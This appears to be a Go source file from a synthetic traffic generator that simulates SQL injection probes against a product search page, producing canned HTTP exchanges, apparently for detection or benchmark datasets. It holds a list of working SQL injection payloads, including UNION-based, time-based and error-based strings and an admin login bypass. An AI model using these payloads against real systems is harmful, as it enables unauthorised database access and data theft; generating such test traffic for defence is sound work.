package attack

import (
	"strconv"
	"strings"

	"github.com/evilbench/evilbench/generator/dialogue"
	"github.com/evilbench/evilbench/generator/draw"
	"github.com/evilbench/evilbench/generator/packet"
)

// SQLInjection puts SQL fragments into a search parameter: the probes by which a tester finds out whether input reaches a query.
type SQLInjection struct {
	Web `yaml:",inline"`
}

func newSQLInjection() Attack { return &SQLInjection{Web{Rate: 2, PerConn: 3, Agent: browser}} }

var fragments = []string{
	"1'", "1' OR '1'='1", "1' OR 1=1-- -", "1) OR (1=1", "1' AND 1=2-- -", "1' ORDER BY 7-- -", "1' UNION SELECT NULL-- -",
	"1' UNION SELECT NULL,NULL,NULL-- -", "-1' UNION ALL SELECT 1,version(),3-- -", "1' AND SLEEP(5)-- -", "1;WAITFOR DELAY '0:0:5'--",
	"1' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -", "1' AND extractvalue(1,concat(0x7e,version()))-- -",
	"1' UNION SELECT table_name,NULL FROM information_schema.tables-- -", "admin'--",
}

// Step is one connection.
func (a *SQLInjection) Step(k int, s *Site, r *draw.Stream) []packet.Conversation {
	return a.talk(k, s, r, func(i int, r *draw.Stream) dialogue.HTTPExchange {
		x := dialogue.HTTPExchange{
			Target: "/products.php?cat=" + strconv.Itoa(1+r.IntN(40)) + "&id=" + escape(fragments[i%len(fragments)]),
			Status: 200, ReplyType: "text/html", Reply: results,
		}
		if r.Chance(0.4) {
			x.Status, x.Reply = 500, failed
		}
		return x
	})
}

// escape writes a query value the way browsers do.
func escape(s string) string {
	var b strings.Builder
	for i := range len(s) {
		switch c := s[i]; {
		case c == ' ':
			b.WriteByte('+')
		case c >= '0' && c <= '9', c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', strings.IndexByte("-_.~()*!'", c) >= 0:
			b.WriteByte(c)
		default:
			b.WriteByte('%')
			b.WriteByte("0123456789ABCDEF"[c>>4])
			b.WriteByte("0123456789ABCDEF"[c&15])
		}
	}
	return b.String()
}
